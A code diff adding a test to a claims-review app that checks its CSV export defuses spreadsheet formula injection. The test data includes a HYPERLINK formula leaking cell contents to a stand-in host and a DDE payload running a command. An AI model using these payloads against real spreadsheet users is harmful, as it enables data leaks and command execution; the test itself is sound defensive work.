@@ -16,9 +16,11 @@ from django.db import connection
 from rest_framework.test import APIClient
 
 from claims.choices import ClaimStatus
-from claims.models import Claim
+from claims.models import Claim, Tag
+from reviews import workflow
 from reviews.api.consumer import CSV_COLUMNS
 from reviews.models import Rating, Verdict, VerdictVersion
+from tests.factories import ClaimFactory
 from tests.reviews.desk import desk
 from tests.reviews.test_consumer_api import publish
 
@@ -63,6 +65,38 @@ def test_csv_export_has_a_header_and_one_row_per_verdict():
     assert list(rows[0]) == CSV_COLUMNS
     assert [int(row["id"]) for row in rows] == [verdicts[1].pk]
     assert rows[0]["claimant"] == "Person 1" and rows[0]["tags"] == "covid;health" and rows[0]["rating"] == "false"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_spreadsheet_formulas_in_every_cell():
+    team = desk()
+    for n, formula in enumerate(FORMULAS):
+        claim = ClaimFactory(text=f"{formula} claim {n}", claimant=formula)
+        claim.tags.add(Tag.objects.get_or_create(name=formula.strip()[:40])[0])
+        workflow.claim_assign(team.chief, claim.pk, team.assignee)
+        workflow.verdict_save_draft(
+            team.assignee, claim.pk, {"rating": "false", "summary": formula, "analysis": formula + " analysis"}
+        )
+        workflow.review_submit(team.assignee, claim.pk)
+        workflow.review_approve(team.chief, claim.pk)
+    rows = list(csv.reader(io.StringIO(body_of(APIClient().get(EXPORT, {"format": "csv"})))))
+    assert len(rows) == 1 + len(FORMULAS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
+    summaries = {row[CSV_COLUMNS.index("summary")] for row in rows[1:]}
+    assert summaries == {"'" + formula.strip() for formula in FORMULAS}  # kept (stripped), readable, inert
 
 
 @pytest.mark.django_db
